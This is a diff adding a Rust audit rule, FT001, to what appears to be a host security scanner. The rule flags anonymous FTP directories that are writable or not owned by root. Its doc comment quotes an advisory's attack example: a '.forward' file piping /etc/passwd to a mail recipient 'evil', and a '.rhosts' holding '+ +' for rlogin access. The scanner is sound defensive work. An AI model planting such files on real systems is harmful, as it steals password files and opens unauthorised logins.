@@ -1,0 +1,94 @@
+//! # FT001 anon-ftp-root-writable
+//!
+//! ## What it finds
+//! The anonymous FTP root (`~ftp`, the home of the `ftp` or `anonymous` account in the
+//! audited root's `etc/passwd`) or one of its system directories (`bin`, `etc`, `dev`,
+//! `usr`, `usr/lib`) that is owned by the ftp user, writable by the ftp user's group or
+//! by everyone, or owned by anyone but root.
+//!
+//! ## Why it matters
+//! This is the hole JPCERT-E-INF-97-0001 warns about (countermeasure 2): with `~ftp`
+//! writable, an anonymous user uploads `~ftp/.forward` holding `|/bin/mail evil <
+//! /etc/passwd`, mails `ftp@host`, and sendmail runs the command; or uploads `.rhosts`
+//! with `+ +` and logs in with `rlogin`. A writable `~ftp/bin` or `~ftp/etc` lets them
+//! replace the `ls` the server runs or the `passwd` it shows.
+//!
+//! ## Example
+//! ```text
+//! home/ftp: mode 0777, owner ftp, group ftp (owned by the ftp user and writable by it)
+//! ```
+//!
+//! ## What to do
+//! (2) `chown root ~ftp ~ftp/bin ~ftp/etc ...; chmod 555 ~ftp` (or 755), and give
+//! uploads a separate write-only `incoming` directory (mode 1733, owned by root). Look
+//! for `~ftp/.forward` and `~ftp/.rhosts` (FT003): if they exist, the hole was used.
+//!
+//! ## References
+//! - JPCERT/CC JPCERT-E-INF-97-0001-01 (countermeasure 2)
+//! - CERT Advisory CA-93:10 and its "Anonymous FTP configuration guidelines"
+//! - COPS `ftp.chk`; Tiger `check_anonftp`
+
+use super::{AnonArea, anon_areas, describe, join};
+use crate::Context;
+use kensa_core::{Finding, Kind, Outcome, Rule, RuleStatus, Severity};
+
+/// FT001: the anonymous FTP root or a system directory in it is writable.
+pub static RULE: Rule = Rule {
+    code: "FT001",
+    name: "anon-ftp-root-writable",
+    kind: Kind::AnonFtpWrite,
+    outcome: Outcome::Exposure,
+    severity: Severity::High,
+    title: "Anonymous FTP root or its system directories writable or not owned by root",
+    advice: "(2) Make the anonymous FTP root and its bin, etc, dev, usr directories owned by \
+             root and not writable by ftp, its group or others (chmod 555 ~ftp); give uploads \
+             a write-only incoming directory (mode 1733, owned by root).",
+    status: RuleStatus::Stable,
+    since: "0.1.0",
+    source: include_str!("ft001_root_writable.rs"),
+};
+
+/// The directories of an anonymous FTP area that must be root's, relative to `~ftp`.
+pub const SYSTEM_DIRS: [&str; 6] = ["", "bin", "etc", "dev", "usr", "usr/lib"];
+
+pub(crate) fn check(ctx: &mut Context<'_>) -> Vec<Finding> {
+    let mut findings = Vec::new();
+    for area in anon_areas(ctx) {
+        check_area(ctx, &area, &mut findings);
+    }
+    findings
+}
+
+fn check_area(ctx: &mut Context<'_>, area: &AnonArea, findings: &mut Vec<Finding>) {
+    for dir in SYSTEM_DIRS {
+        let rel = join(&area.home, dir);
+        // The home itself may be reached through links (/home -> /export/home); its
+        // system subdirectories are judged as they are (a link there is not a directory
+        // anyone can write through, and its target is judged where it lives).
+        let meta = if dir.is_empty() {
+            ctx.root.stat(&rel)
+        } else {
+            ctx.root.lstat(&rel)
+        };
+        let Ok(meta) = meta else { continue };
+        if meta.kind != crate::FileKind::Dir {
+            continue;
+        }
+        let (reason, severity) = match area.write_access(&meta) {
+            Some(reason) => (reason, Severity::High),
+            None if meta.uid != 0 => ("not owned by root", Severity::Medium),
+            None => continue,
+        };
+        let mut finding = ctx.finding(&RULE);
+        let shown = ctx.root.display(&rel);
+        finding.title = format!("Anonymous FTP directory {shown} is {reason}");
+        finding.severity = severity;
+        finding.subject.path = Some(shown.clone());
+        finding.subject.users = vec![area.account.clone()];
+        finding.count = 1;
+        let text = format!("{shown}: {} ({reason})", describe(ctx, &meta));
+        finding.push_evidence(crate::file_evidence(&shown, text));
+        finding.merge_key = shown;
+        findings.push(finding);
+    }
+}
